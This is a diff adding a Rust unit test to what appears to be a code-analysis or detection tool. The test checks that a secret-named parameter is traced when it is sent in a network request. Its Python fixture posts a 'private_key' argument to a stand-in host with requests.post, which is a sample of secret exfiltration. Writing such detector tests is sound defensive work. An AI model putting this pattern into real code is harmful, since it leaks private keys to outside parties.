@@ -324,3 +324,12 @@ fn a_member_that_is_loaded_by_its_path_runs_under_the_same_trigger() {
         assert_eq!(found, Some(Trigger::Install), "{load}");
     }
 }
+
+#[test]
+fn a_parameter_that_is_named_for_a_secret_keeps_its_name() {
+    let source = "import requests\ndef check(private_key):\n    requests.post('https://a.example/', [{'x', private_key}])";
+    let event = event(source, "requests.post");
+    let data = event.argument(Role::Data).expect("the request has data");
+    assert!(data.origins.kinds.contains(OriginKind::Argument));
+    assert!(data.value.as_ref().is_some_and(|v| v.text.contains("argument[private_key]")), "{data:?}");
+}
